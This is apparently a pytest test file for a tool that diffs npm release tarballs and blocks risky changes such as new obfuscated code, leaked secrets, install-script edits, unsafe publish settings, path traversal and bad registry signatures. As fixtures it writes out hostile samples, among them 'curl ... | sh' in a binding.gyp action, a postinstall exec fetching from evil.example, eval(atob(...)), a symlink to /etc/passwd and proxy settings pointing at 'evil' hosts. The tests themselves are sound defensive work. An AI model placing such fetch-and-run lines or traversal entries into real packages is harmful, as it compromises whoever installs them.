        load(_release(tmp_path, "b", "1.0.0", old)), load(_release(tmp_path, "c", "1.0.1", new)), Policy()
    )


GLUE = "export async function init() { return WebAssembly.instantiate(bytes('{wasm}')) }\n"


@pytest.mark.parametrize(
    "new",
    [
        {"dist/chunk-8d7e6f5a.js": GLUE.replace("init", "start") + "export const v = 2\n"},  # content hash moved
        {"dist/index.js": "export * from './wasm-inline.js'\n", "dist/wasm-inline.js": GLUE},  # re-split
        {"dist/renamed/loader.js": "// moved\n" + GLUE},  # renamed, no hash in the name
    ],
    ids=["content-hashed-chunk", "re-split", "renamed"],
)
def test_the_same_inline_webassembly_in_another_chunk_is_not_new(tmp_path: Path, new: dict[str, str]) -> None:
    """The noisy class: obfuscation signals were compared per path, so a chunk carrying the same inline
    WebAssembly base64 the package shipped for many releases counted as new obfuscated code."""
    wasm = _wasm_base64(1)
    old = {"dist/chunk-3f2a1b9c.js": GLUE.replace("{wasm}", wasm), "dist/index.js": "export * from './chunk'\n"}
    result = _diff(tmp_path, old, {k: v.replace("{wasm}", wasm) for k, v in new.items()})
    assert [f for f in result.findings if f.rule == "obfuscated-code"] == [], result.findings


def test_inline_webassembly_is_named_and_a_new_module_blocks_even_behind_a_known_one(tmp_path: Path) -> None:
    known, other = _wasm_base64(1), _wasm_base64(2)
    old = {"dist/a.js": GLUE.replace("{wasm}", known)}
    new = {"dist/b.js": GLUE.replace("{wasm}", known) + GLUE.replace("init", "more").replace("{wasm}", other)}
    [f] = _diff(tmp_path, old, new).findings
    assert f.rule == "obfuscated-code" and f.blocks and "inline WebAssembly module" in f.message and f.line == 2
    # a new base64 blob that is not WebAssembly keeps its own label, in a chunk renamed by its hash too
    blob = "QUJD" * 400
    new = {"dist/chunk-0a1b2c3d.js": GLUE.replace("{wasm}", known) + f"eval(atob('{blob}'))\n"}
    [g] = _diff(tmp_path, {"dist/chunk-9f8e7d6c.js": GLUE.replace("{wasm}", known)}, new).findings
    assert g.rule == "obfuscated-code" and "eval/Function/vm" in g.message and g.blocks
    # the chunk a content hash renamed is the same chunk rebuilt: its module rebuilt is what a rebuilt file at
    # the same path is (the previous release of the file had inline WebAssembly)
    rebuilt = {"dist/chunk-0a1b2c3d.js": GLUE.replace("{wasm}", other)}
    assert _diff(tmp_path, {"dist/chunk-9f8e7d6c.js": GLUE.replace("{wasm}", known)}, rebuilt).findings == []
    [h] = _diff(tmp_path, {"dist/other-9f8e7d6c.js": GLUE.replace("{wasm}", known)}, rebuilt).findings
    assert "inline WebAssembly module" in h.message


def test_a_renamed_document_is_not_a_new_secret(tmp_path: Path) -> None:
    """The noisy class: the secret scan read a renamed documentation file as all new."""
    key = real_private_key()
    doc = f"# Setup\n\nTest token: {TOKENS['github']}\n\n{key}\n"
    assert _diff(tmp_path, {"docs/SETUP.md": doc}, {"docs/guides/setup.md": doc + "\nMore.\n"}).findings == []
    # a value the previous release did not have still blocks, after a known one in the same file
    fresh = doc + f"\nAnd: {TOKENS['npm']}\n"
    [f] = _diff(tmp_path, {"docs/SETUP.md": doc}, {"docs/guides/setup.md": fresh}).findings
    assert f.rule == "sensitive-file" and f.blocks and "npm access token" in f.message
    assert f.line == doc.count("\n") + 2
    other = real_private_key()
    [g] = _diff(tmp_path, {"docs/SETUP.md": doc}, {"docs/guides/setup.md": doc + other}).findings
    assert g.rule == "sensitive-file" and "private key" in g.message


# ------------------------------------------------------------------ versions, size, safety


@pytest.mark.parametrize(
    ("version", "text"), [("2.1.2", "not above"), ("2.0.0", "not above"), ("v-next", "not valid semver")]
)
def test_version_not_increasing(differ: Differ, version: str, text: str) -> None:
    (f,) = only(differ("ms-2.1.2", bump=version), "version-not-increasing")
    assert text in f.message and f.file == "package.json" and f.line


def test_prerelease_ordering(differ: Differ) -> None:
    assert differ("ms-2.1.2", bump="2.1.3-beta.1").findings == []
    assert [f.rule for f in differ("ms-2.1.2", bump="2.1.2-rc.1").findings] == ["version-not-increasing"]


def test_large_change_warns_over_policy_thresholds(differ: Differ) -> None:
    files = {f"data/{i}.txt": "x" * 100 for i in range(5)}
    (f,) = only(differ("ms-2.1.2", files=files, policy="diff: {large-change: {added-files: 3}}"), "large-change")
    assert f.severity is Severity.WARN and "5 files" in f.message
    (g,) = only(differ("ms-2.1.2", files=files, policy="diff: {large-change: {added-bytes: 400}}"), "large-change")
    assert "400 B" in g.message
    assert differ("ms-2.1.2", files=files).findings == []


def test_unsafe_candidate_blocks_and_nothing_else_runs(tmp_path: Path) -> None:
    evil = tmp_path / "evil.tgz"
    evil.write_bytes(
        gz(
            tar_bytes(
                [
                    Entry("package/package.json", package_json(scripts={"postinstall": "x"}).encode()),
                    Entry("package/l", type=b"2", linkname="/etc/passwd"),
                ]
            )
        )
    )
    result = diff_packages(load(fixture("ms-2.1.2")), load(evil), Policy())
    (f,) = only(result, "tarball-unsafe")
    assert "candidate" in f.message and "symlink" in f.message and f.blocks and result.files == []


def test_unsafe_baseline_entry_warns_but_incomplete_baseline_blocks(tmp_path: Path) -> None:
    base = tmp_path / "b.tgz"
    base.write_bytes(
        gz(
            tar_bytes(
                [Entry("package/package.json", package_json().encode()), Entry("package/l", type=b"2", linkname="x")]
            )
        )
    )
    cand = make_tgz({"package.json": package_json(version="1.0.1")}, tmp_path / "c.tgz")
    (f,) = only(diff_packages(load(base), load(cand), Policy()), "tarball-unsafe")
    assert f.severity is Severity.WARN and "baseline" in f.message
    base.write_bytes(base.read_bytes()[:50])
    (g,) = only(diff_packages(load(base), load(cand), Policy()), "tarball-unsafe")
    assert g.blocks


def test_candidate_without_package_json(tmp_path: Path) -> None:
    cand = make_tgz({"index.js": "1"}, tmp_path / "c.tgz")
    (f,) = only(diff_packages(None, load(cand), Policy()), "tarball-unsafe")
    assert "no package.json" in f.message and f.file == "package.json"


def test_first_release_reports_install_time_risks_only(tmp_path: Path) -> None:
    files = {
        "package.json": package_json(scripts={"postinstall": "node i.js"}, dependencies={"a": "1", "b": "github:o/b"}),
        "i.js": "1\n",
        ".npmrc": "x",
    }
    result = diff_packages(None, load(make_tgz(files, tmp_path / "c.tgz")), Policy())
    assert sorted(f.rule for f in result.findings) == [
        "dependency-source-changed",
        "lifecycle-script-added",
        "sensitive-file",
    ]
    assert result.release_type == "first" and all(f.status == "added" for f in result.files)


# ------------------------------------------------------------------ the anchored line diff


def test_added_lines_finds_changes_far_apart_and_after_large_insertions() -> None:
    old = b"".join(b"line %d some text to make it longer\n" % i for i in range(60000))
    lines = old.split(b"\n")
    lines[5] = b"CHANGED A"
    lines[30000:30000] = [b"INSERTED %d" % i for i in range(20000)]  # > the search window
    lines[-3] = b"CHANGED Z"
    new = b"\n".join(lines)
    got = added_lines(old, new)
    texts = [t for _, t in got]
    assert texts[0] == b"CHANGED A" and texts[-1] == b"CHANGED Z" and len(texts) == 20002
    for off, text in got:
        assert new[off : off + len(text)] == text


def test_added_lines_of_identical_deleted_and_rewritten() -> None:
    data = b"a\nb\nc\n" * 50000
    assert added_lines(data, data) == []
    assert added_lines(data, data[: len(data) // 2]) == []
    assert [t for _, t in added_lines(b"x\ny\n", b"p\nq\n")] == [b"p", b"q"]
    assert [t for _, t in added_lines(b"", b"p\n\nq")] == [b"p", b"q"]


def test_binding_gyp_changed_while_native_build_is_on(tmp_path: Path) -> None:
    files = {"package.json": package_json(), "binding.gyp": "{'targets': []}\n", "src/a.cc": "int a;\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    changed = {**files, "package.json": package_json(version="1.0.1")}
    assert diff_packages(load(base), load(make_tgz(changed, tmp_path / "c.tgz")), Policy()).findings == []
    changed["binding.gyp"] = "{'targets': [{'actions': [{'action': ['sh', '-c', 'curl x | sh']}]}]}\n"
    (f,) = only(
        diff_packages(load(base), load(make_tgz(changed, tmp_path / "d.tgz")), Policy()), "install-script-code-changed"
    )
    assert f.file == "binding.gyp" and "node-gyp rebuild" in f.message


@pytest.mark.parametrize("empty", ["", None, False])
def test_an_empty_install_script_does_not_hide_the_implicit_native_build(tmp_path: Path, empty: object) -> None:
    """npm (arborist, run-script) skips the implicit `node-gyp rebuild` only for a *truthy* install/preinstall
    script: with `install: ""` (or null/false) binding.gyp still builds, so a changed binding.gyp must block."""
    manifest = json.loads(package_json())
    manifest["scripts"] = {"install": empty}
    files = {"package.json": json.dumps(manifest), "binding.gyp": "{'targets': []}\n", "src/a.cc": "int a;\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    manifest["version"] = "1.0.1"
    changed = {**files, "package.json": json.dumps(manifest)}
    changed["binding.gyp"] = "{'targets': [{'actions': [{'action': ['sh', '-c', 'curl x | sh']}]}]}\n"
    result = diff_packages(load(base), load(make_tgz(changed, tmp_path / "c.tgz")), Policy())
    assert "install-script-code-changed" in {f.rule for f in result.findings if f.blocks}, result.findings


def test_publish_config_may_not_steer_npm_publish(differ: Differ) -> None:
    """`npm publish` takes every `publishConfig` key its command line does not set: only a few keys are safe."""
    unsafe = {"proxy": "http://evil:8080", "strict-ssl": False, "@acme:registry": "https://evil/", "dry-run": True}
    result = differ("ms-2.1.2", manifest=lambda d: d.update(publishConfig={"access": "public", **unsafe}))
    (f,) = only(result, "publish-config-unsafe")
    assert f.blocks and all(json.dumps(k) in f.message for k in unsafe) and '"access"' not in f.message
    safe = {"access": "public", "tag": "next", "provenance": True, "registry": "https://r/", "directory": "dist"}
    safe["ignore"] = [".github/workflows"]  # not npm config (minimist ships it): npm ignores it
    assert not differ("ms-2.1.2", manifest=lambda d: d.update(publishConfig=safe)).findings
    nerf = differ("ms-2.1.2", manifest=lambda d: d.update(publishConfig={"//registry.npmjs.org/:_authToken": "x"}))
    assert only(nerf, "publish-config-unsafe")


def test_the_npm_config_key_list_covers_the_npm_cli() -> None:
    """Every config key of the npm CLI the tests run (its `@npmcli/config` definitions) is known to the rule."""
    import shutil
    import subprocess

    from gatekeeper.diffing.manifest_checks import NPM_CONFIG_KEYS

    npm, node = shutil.which("npm"), shutil.which("node")
    assert npm and node, "npm and node are required for the tests"
    defs = Path(npm).resolve().parent.parent / "node_modules" / "@npmcli" / "config" / "lib" / "definitions"
    assert defs.is_dir(), f"npm's config definitions not found at {defs}"
    script = f"console.log(JSON.stringify(Object.keys(require({str(defs)!r}).definitions)))"
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True, timeout=60).stdout
    missing = set(json.loads(out)) - NPM_CONFIG_KEYS
    assert not missing, f"add these npm config keys to NPM_CONFIG_KEYS: {sorted(missing)}"


def test_a_native_glob_approval_approves_only_native_binaries(tmp_path: Path) -> None:
    """`{path: 'prebuilds/**', native: true}` approves any bytes of a *native binary* there, not a script that an
    install step runs and that merely holds a NUL byte (Node runs such JavaScript fine)."""
    manifest = json.loads(package_json())
    manifest["scripts"] = {"postinstall": "node prebuilds/setup.js"}
    files = {"package.json": json.dumps(manifest), "prebuilds/setup.js": "console.log('ok')\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    manifest["version"] = "1.0.1"
    evil = "/* \0 */ require('child_process').exec('curl https://evil.example | sh')\n"
    cand = make_tgz({**files, "package.json": json.dumps(manifest), "prebuilds/setup.js": evil}, tmp_path / "c.tgz")
    policy = parse_policy("approve:\n  files:\n    - {path: 'prebuilds/**', native: true}\n")
    result = diff_packages(load(base), load(cand), policy)
    assert "install-script-code-changed" in {f.rule for f in result.findings if f.blocks}, result.findings
    elf = b"\x7fELF\x02\x01\x01" + bytes(64)
    addon = {**files, "package.json": json.dumps(manifest), "prebuilds/linux-x64/a.node": elf}
    binary = make_tgz(addon, tmp_path / "d.tgz")
    assert not [f for f in diff_packages(load(base), load(binary), policy).findings if f.blocks]


# ------------------------------------------------------------------ the gate (registry side), with a fake registry


class FakeRegistry:
    """packument/keys/download as RegistryClient answers them, from in-memory data."""

    def __init__(
        self,
        name: str,
        releases: dict[str, Path],
        *,
        tags: dict[str, str] | None = None,
        keys: list[dict[str, Any]] | None = None,
        public: bool = False,
    ) -> None:
        from gatekeeper._internal.signatures import sri_sha512

        self.base_url = "https://reg.test/"
        self.public = public  # registry.npmjs.org (or a test alias): signatures required

        self.blobs = {f"https://reg.test/{name}/-/{v}.tgz": p.read_bytes() for v, p in releases.items()}
        self.doc: dict[str, Any] | None = {
            "name": name,
            "dist-tags": tags or ({"latest": max(releases, key=_vkey)} if releases else {}),
            "versions": {
                v: {
                    "name": name,
                    "version": v,
                    "dist": {"tarball": f"https://reg.test/{name}/-/{v}.tgz", "integrity": sri_sha512(p.read_bytes())},
                }
                for v, p in releases.items()
            },
            "time": {v: "2024-01-01T00:00:00.000Z" for v in releases},
        }
        self.served_keys = keys
        self.downloads: list[str] = []

    def packument(self, name: str) -> dict[str, Any] | None:
        return self.doc if self.doc and self.doc["versions"] else None

    def keys(self) -> list[dict[str, Any]] | None:
        return self.served_keys

    def same_origin(self, url: str) -> bool:
        return url.startswith(self.base_url)

    def download(self, url: str, max_bytes: int) -> bytes:
        self.downloads.append(url)
        return self.blobs[url]


def _vkey(v: str) -> tuple[int, ...]:
    return tuple(int(x) for x in v.split("-")[0].split("."))


def gate_ctx(tmp_path: Path, tarball: Path, registry: Any, policy: Policy | None = None):
    from gatekeeper._internal.npm import integrity_of
    from gatekeeper.config import Inputs
    from gatekeeper.context import Context, GitHubRun, PackedTarball

    integrity, shasum = integrity_of(tarball.read_bytes())
    return Context(
        inputs=Inputs.from_env({}),
        env={},
        run=GitHubRun.from_env({}),
        workspace=tmp_path,
        package_dir=tmp_path,
        policy=policy or Policy(),
        registry=registry,
        tarball=PackedTarball(tarball, integrity, shasum, tarball.stat().st_size),
    )


def test_gate_diffs_against_the_latest_release(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
    ctx = gate_ctx(tmp_path, fixture("ms-2.1.3"), reg)
    findings = gate.check(ctx)
    assert [f.rule for f in findings] == ["baseline-signature-unavailable"]
    assert findings[0].severity is Severity.INFO
    result = gate.compute(ctx)
    assert gate.compute(ctx) is result and len(reg.downloads) == 1  # cached per Context
    assert result.baseline and result.baseline["version"] == "2.1.2" and result.baseline["integrity_ok"] is True
    extras = gate.report_extras(ctx)
    assert extras.previous == result.baseline and "Release diff" in extras.markdown and "index.js" in extras.markdown
    assert gate.NAME == "diff"


def test_gate_version_exists(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2"), "2.1.3": fixture("ms-2.1.3")})
    findings = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    (f,) = [f for f in findings if f.rule == "version-exists"]
    assert f.blocks and "ms@2.1.3 is already on the registry" in f.message and f.file == "package.json"
    assert gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg)).baseline_version == "2.1.2"


def test_gate_backport_diffs_against_the_highest_version_below(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2"), "3.0.0": fixture("ms-2.1.3")}, tags={"latest": "3.0.0"})
    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert result.baseline_version == "2.1.2" and "backport" in str(result.baseline and result.baseline["reason"])
    assert not any(f.blocks for f in result.findings)


def test_gate_baseline_tag_from_policy(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry(
        "ms", {"2.1.1": fixture("ms-2.1.2"), "2.1.2": fixture("ms-2.1.2")}, tags={"latest": "2.1.2", "stable": "2.1.1"}
    )
    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg, parse_policy("diff: {baseline-tag: stable}")))
    assert result.baseline is not None and result.baseline["version"] == "2.1.1"
    assert "stable" in str(result.baseline["reason"])


def test_gate_first_release_warns_or_blocks_by_policy(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {})
    (f,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert f.rule == "first-release" and f.severity is Severity.WARN and "first release" in f.message
    (g,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg, parse_policy("diff: {first-release: block}")))
    assert g.rule == "first-release" and g.blocks


def test_gate_integrity_mismatch_blocks_and_skips_the_diff(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
    reg.blobs[next(iter(reg.blobs))] = fixture("ms-2.1.3").read_bytes()  # the CDN serves other bytes
    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    (f,) = result.findings
    assert f.rule == "baseline-integrity-mismatch" and f.blocks and "ms@2.1.2" in f.message
    assert result.files == [] and result.baseline and result.baseline["integrity_ok"] is False


def test_gate_signatures(tmp_path: Path) -> None:
    import base64

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    from gatekeeper.gates import diff as gate

    private = ec.generate_private_key(ec.SECP256R1())
    spki = private.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    keys = [
        {"keyid": "SHA256:k", "keytype": "ecdsa-sha2-nistp256", "key": base64.b64encode(spki).decode(), "expires": None}
    ]
    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=keys)
    dist = reg.doc["versions"]["2.1.2"]["dist"]  # type: ignore[index]
    message = f"ms@2.1.2:{dist['integrity']}".encode()
    dist["signatures"] = [
        {"keyid": "SHA256:k", "sig": base64.b64encode(private.sign(message, ec.ECDSA(hashes.SHA256()))).decode()}
    ]
    good = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert good.findings == [] and good.baseline and good.baseline["signature"] == "verified"
    dist["signatures"][0]["sig"] = base64.b64encode(private.sign(b"other", ec.ECDSA(hashes.SHA256()))).decode()
    (bad,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert bad.rule == "baseline-signature-invalid" and bad.blocks and "does not verify" in bad.message
    keys[0]["expires"] = "2023-01-01T00:00:00Z"
    dist["signatures"][0]["sig"] = base64.b64encode(private.sign(message, ec.ECDSA(hashes.SHA256()))).decode()
    (expired,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert expired.rule == "baseline-signature-invalid" and "expired" in expired.message


@pytest.mark.parametrize("served", [None, []], ids=["keys-404", "keys-empty"])
def test_public_registry_without_keys_blocks_other_registries_keep_info(tmp_path: Path, served: Any) -> None:
    from gatekeeper.gates import diff as gate

    private = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=served)
    (info,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), private))
    assert info.rule == "baseline-signature-unavailable" and info.severity is Severity.INFO
    public = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=served, public=True)
    (f,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), public))
    assert f.rule == "registry-signatures-missing" and f.blocks
    assert ("404" if served is None else "empty key list") in f.message and "baseline ms@2.1.2" in f.message


def test_public_registry_baseline_without_signatures_blocks(tmp_path: Path) -> None:
    import base64

    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    from gatekeeper.gates import diff as gate

    spki = (
        ec.generate_private_key(ec.SECP256R1())
        .public_key()
        .public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    keys = [{"keyid": "SHA256:k", "key": base64.b64encode(spki).decode(), "expires": None}]
    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=keys, public=True)  # no dist.signatures
    (f,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    assert f.rule == "baseline-signature-invalid" and f.blocks and f.message.startswith("baseline:")


def test_tarball_on_another_origin_is_reported(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
    dist = reg.doc["versions"]["2.1.2"]["dist"]  # type: ignore[index]
    moved = "http://reg.test/ms/-/2.1.2.tgz"  # same host, downgraded to http
    reg.blobs[moved] = reg.blobs.pop(dist["tarball"])
    dist["tarball"] = moved
    findings = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
    (f,) = [f for f in findings if f.rule == "baseline-tarball-elsewhere"]
    assert f.severity is Severity.WARN and "http://reg.test" in f.message and "without the token" in f.message


def test_gate_unsafe_candidate_never_reaches_the_registry(tmp_path: Path) -> None:
    from gatekeeper.gates import diff as gate

    evil = tmp_path / "evil.tgz"
    evil.write_bytes(
        gz(tar_bytes([Entry("package/package.json", package_json().encode()), Entry("package/../../x", b"x")]))
    )
    reg = FakeRegistry("demo", {})
    (f,) = gate.check(gate_ctx(tmp_path, evil, reg))
    assert f.rule == "tarball-unsafe" and f.blocks and reg.downloads == []


def test_gate_faults_raise_gatekeeper_errors(tmp_path: Path) -> None:
    from dataclasses import replace

    from gatekeeper.errors import GatekeeperError, RegistryError
    from gatekeeper.gates import diff as gate

    ctx = gate_ctx(tmp_path, fixture("ms-2.1.3"), FakeRegistry("ms", {}))
    with pytest.raises(GatekeeperError, match="no packed tarball"):
        gate.check(replace(ctx, tarball=None))
    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
    del reg.doc["versions"]["2.1.2"]["dist"]["tarball"]  # type: ignore[index]
    with pytest.raises(RegistryError, match="no tarball"):
        gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))


def test_every_diff_rule_is_registered_with_a_fix() -> None:
    from gatekeeper.rules import all_rules

    rules = all_rules()
    for rid in [
        "lifecycle-script-added",
        "lifecycle-script-changed",
        "lifecycle-script-removed",
        "install-script-code-changed",
        "native-build-added",
        "dependency-added",
        "dependency-source-changed",
        "bundled-dependencies-changed",
        "bin-changed",
        "entrypoint-changed",
        "sensitive-file",
        "executable-binary-added",
        "obfuscated-code",
        "version-not-increasing",
        "large-change",
        "tarball-unsafe",
        "baseline-integrity-mismatch",
        "baseline-signature-invalid",
        "baseline-signature-unavailable",
        "registry-signatures-missing",
        "baseline-tarball-elsewhere",
        "first-release",
        "version-exists",
        "publish-config-unsafe",
        "approved-change",
    ]:
        assert rid in rules and rules[rid].fix and rules[rid].title
